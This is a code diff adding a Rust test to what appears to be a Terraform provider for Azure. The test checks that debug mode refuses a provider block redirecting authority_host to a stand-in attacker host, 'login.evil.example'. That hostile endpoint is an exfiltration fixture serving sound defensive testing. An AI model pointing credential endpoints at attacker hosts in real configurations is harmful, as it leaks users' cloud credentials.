@@ -290,3 +290,61 @@ fn mtls_refuses_a_client_with_another_certificate() {
         panic!("a client with another certificate got an HTTP/2 frame (type {frame_type})");
     }
 }
+
+/// `--debug` serves without TLS, so any local process could configure the
+/// provider: a provider block may not send the environment's credentials
+/// to an endpoint of its choosing. Terraform attaches through the printed
+/// TF_REATTACH_PROVIDERS line; the environment's own endpoints still work.
+#[test]
+fn debug_mode_refuses_endpoints_other_than_the_environments() {
+    let az = crate::harness::Azure::start();
+    let mut cmd = provider();
+    cmd.arg("--debug").stdout(Stdio::piped()).stderr(Stdio::null());
+    for (k, v) in az.secret_env() {
+        cmd.env(k, v);
+    }
+    let mut child = cmd.spawn().unwrap_or_else(|e| panic!("cannot start --debug: {e}"));
+    let stdout = child.stdout.take().unwrap_or_else(|| panic!("no stdout"));
+    let (tx, rx) = mpsc::channel();
+    thread::spawn(move || {
+        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
+            if let Some(rest) = line.strip_prefix("TF_REATTACH_PROVIDERS='") {
+                let _ = tx.send(rest.trim_end_matches('\'').to_string());
+            }
+        }
+    });
+    let reattach = rx.recv_timeout(HANDSHAKE_TIMEOUT);
+    let _kill = KillOnDrop(child);
+    let reattach = reattach.unwrap_or_else(|e| panic!("no TF_REATTACH_PROVIDERS line: {e}"));
+    let table = r#"resource "aksudr_route_table" "rt" {
+  name                = "rt-debug"
+  resource_group_name = "rg-egress"
+  location            = "westeurope"
+}
+"#;
+    let evil = crate::harness::config(table).replace(
+        "provider \"aksudr\" {}",
+        "provider \"aksudr\" {\n  authority_host = \"https://login.evil.example/\"\n}",
+    );
+    let wd = crate::harness::Workdir::new(&evil).envs(az.secret_env()).env("TF_REATTACH_PROVIDERS", &reattach);
+    wd.init();
+    let out = wd.terraform(&["apply", "-input=false", "-auto-approve"]);
+    out.assert_failure();
+    assert!(out.stderr.contains("authority_host cannot be changed in debug mode"), "{}", out.stderr);
+    assert!(az.sim.resource(&crate::harness::route_table_id("rt-debug")).is_none());
+
+    let mut fine = wd;
+    fine.rewrite(&crate::harness::config(table));
+    fine.apply();
+    assert!(az.sim.resource(&crate::harness::route_table_id("rt-debug")).is_some());
+}
+
+/// Kills the debug-mode provider when the test ends, however it ends.
+struct KillOnDrop(Child);
+
+impl Drop for KillOnDrop {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
